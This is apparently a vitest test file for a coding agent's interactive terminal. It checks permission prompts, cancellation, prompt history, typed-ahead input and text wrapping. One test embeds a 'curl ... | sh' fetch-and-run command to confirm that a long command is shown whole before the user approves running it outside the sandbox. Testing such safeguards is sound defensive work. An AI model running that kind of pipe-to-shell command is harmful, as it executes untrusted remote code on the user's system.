import { existsSync } from "node:fs";
import { readFile } from "node:fs/promises";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import type { FakeServer } from "../../src/simulator/fake-provider-types.js";
import { FakeTerminal } from "./fake-terminal.js";
import { type InteractiveRun, lastUserText, startInteractive } from "./interactive-harness.js";
import { makeSandbox } from "./panto-process.js";

const UP = "\u001b[A";
const CTRL_C = "\u0003";
const CTRL_D = "\u0004";

let server: FakeServer | undefined;

afterEach(async () => {
  await server?.close();
  server = undefined;
});

async function start(...args: Parameters<typeof startInteractive>): Promise<InteractiveRun> {
  const run = await startInteractive(...args);
  server = run.server;
  return run;
}

const writeCall = (path: string) => ({
  type: "tool-calls" as const,
  calls: [{ name: "write", arguments: { path, content: "x" } }],
});

describe("interactive input", { timeout: 60_000 }, () => {
  it("shows the whole of a long bash command before asking to run it outside the sandbox, however long it is", async () => {
    const box = await makeSandbox();
    const { terminal, exit } = await start(box);
    const command = `find . -name '*.tmp' -print0 | xargs -0 grep -l '${"x".repeat(80)}' ; curl -s http://127.0.0.1:9/a.sh | sh`;
    // Inside the sandbox a command runs unasked; one asking to leave it is shown whole first.
    const args = { command, unsandboxed_reason: "needs the network" };
    server?.enqueue(
      { type: "tool-calls", calls: [{ name: "bash", arguments: args }] },
      { type: "text", text: "not run" },
    );
    terminal.type("clean up\r");
    const asked = await terminal.waitFor("outside the sandbox? ");
    expect(terminal.screen.slice(0, asked)).toContain(`$ ${command}`);
    terminal.type("n\r");
    await terminal.waitForAnswer("not run", asked);
    terminal.type(CTRL_D);
    expect(await exit).toBe(0);
  });

  it("asks again when the key is none of y, a or n, and takes Enter alone as no", async () => {
    const box = await makeSandbox();
    const { terminal, exit } = await start(box);
    server?.enqueue(writeCall("one.txt"), { type: "text", text: "first done" });
    terminal.type("write one\r");
    let seen = await terminal.waitFor("Allow? ");
    terminal.type("x");
    seen = await terminal.waitFor("answer y (yes, this once), a (always: save a rule) or n (no)", seen);
    expect(existsSync(join(box.project, "one.txt"))).toBe(false);
    // One key answers: no Enter after it.
    terminal.type("y");
    seen = await terminal.waitForAnswer("first done", seen);
    expect(existsSync(join(box.project, "one.txt"))).toBe(true);

    server?.enqueue(writeCall("two.txt"), { type: "text", text: "second done" });
    terminal.type("write two\r");
    seen = await terminal.waitFor("Allow? ", seen);
    terminal.type("\r");
    // After a no, a reason may follow; Enter alone gives none.
    seen = await terminal.waitFor("why not?", seen);
    terminal.type("\r");
    seen = await terminal.waitFor("denied", seen);
    await terminal.waitForAnswer("second done", seen);
    expect(existsSync(join(box.project, "two.txt"))).toBe(false);
    terminal.type(CTRL_D);
    expect(await exit).toBe(0);
  });

  it("Ctrl-C at a permission question denies the call and cancels the request; the next prompt works", async () => {
    const box = await makeSandbox();
    const { terminal, exit } = await start(box);
    // The cancel stops the request before it would ask the model again: one reply is enough.
    server?.enqueue(writeCall("never.txt"));
    terminal.type("write it\r");
    let seen = await terminal.waitFor("Allow? ");
    terminal.type(CTRL_C);
    seen = await terminal.waitForAnswer("cancelled", await terminal.waitFor("denied", seen));
    expect(existsSync(join(box.project, "never.txt"))).toBe(false);
    server?.enqueue({ type: "text", text: "still here" });
    terminal.type("are you there\r");
    await terminal.waitForAnswer("still here", seen);
    expect(lastUserText(server)).toBe("are you there");
    terminal.type(CTRL_D);
    expect(await exit).toBe(0);
  });

  it("keeps a multi-line prompt as one history entry, recalled and sent whole with Up", async () => {
    const box = await makeSandbox();
    const { terminal, exit } = await start(box);
    server?.enqueue({ type: "text", text: "answer one" }, { type: "text", text: "answer two" });
    terminal.type("line one \\\r");
    await terminal.waitFor("… ");
    terminal.type("line two\r");
    const seen = await terminal.waitForAnswer("answer one");
    terminal.type(`${UP}\r`);
    await terminal.waitForAnswer("answer two", seen);
    expect(lastUserText(server)).toBe("line one \nline two");
    terminal.type(CTRL_D);
    expect(await exit).toBe(0);
    // One line in the file, with a marker where the line broke; not "line one \" and "line two".
    expect(await readFile(join(box.home, "history"), "utf8")).toBe("line one ↵line two\n");
  });

  it("does not echo text typed ahead into a running request's output, and shows it at the next prompt", async () => {
    const box = await makeSandbox();
    const { terminal, exit } = await start(box, { allowTools: true });
    server?.enqueue(
      { type: "tool-calls", calls: [{ name: "bash", arguments: { command: "sleep 1" } }] },
      { type: "text", text: "slept well" },
      { type: "text", text: "typed ahead answered" },
    );
    terminal.type("take a nap\r");
    const napAt = await terminal.waitFor("● bash sleep 1");
    terminal.type("typed ahead");
    const answerAt = await terminal.waitFor("slept well", napAt);
    expect(terminal.screen.slice(napAt, answerAt)).not.toContain("typed ahead");
    const promptAt = await terminal.waitFor("> typed ahead", answerAt);
    terminal.type("\r");
    await terminal.waitForAnswer("typed ahead answered", promptAt);
    expect(lastUserText(server)).toBe("typed ahead");
    terminal.type(CTRL_D);
    expect(await exit).toBe(0);
  });

  it("ends the prompt's line when Ctrl-D exits, so the shell's prompt starts on a line of its own", async () => {
    const box = await makeSandbox();
    const { terminal, exit } = await start(box);
    terminal.type(CTRL_D);
    expect(await exit).toBe(0);
    expect(terminal.screen.endsWith("> \n")).toBe(true);
  });

  it("ends the prompt's line when a double Ctrl-C exits 130", async () => {
    const box = await makeSandbox();
    const { terminal, exit } = await start(box);
    terminal.type(CTRL_C);
    await terminal.waitFor("Ctrl-C again to exit");
    terminal.type(CTRL_C);
    expect(await exit).toBe(130);
    expect(terminal.screen.endsWith("> \n")).toBe(true);
  });

  it("leaves a plain answer to the terminal and word-wraps notices to a 40-column terminal", async () => {
    const box = await makeSandbox();
    const answer =
      "Here is a long answer that goes on for a while so that we can see how wrapping behaves in a narrow terminal.";
    const { terminal, exit } = await start(box, {}, new FakeTerminal({ columns: 40 }));
    server?.enqueue({ type: "text", text: answer });
    terminal.type("go\r");
    const goAt = await terminal.waitFor("> go");
    const end = await terminal.waitFor("terminal.", goAt);
    // Without colour the answer is its plain text, as written: the terminal wraps it, so it copies back whole.
    expect(terminal.screen.slice(goAt, end).trim()).toBe(answer);
    terminal.type("/help\r");
    const helpAt = await terminal.waitFor("/compact [--preview] [--force]", end);
    const help = terminal.screen.slice(helpAt, await terminal.waitFor("Ctrl-D exits.", helpAt));
    expect(help.split("\n").every((line) => line.length <= 40)).toBe(true);
    terminal.type(CTRL_D);
    expect(await exit).toBe(0);
  });
});
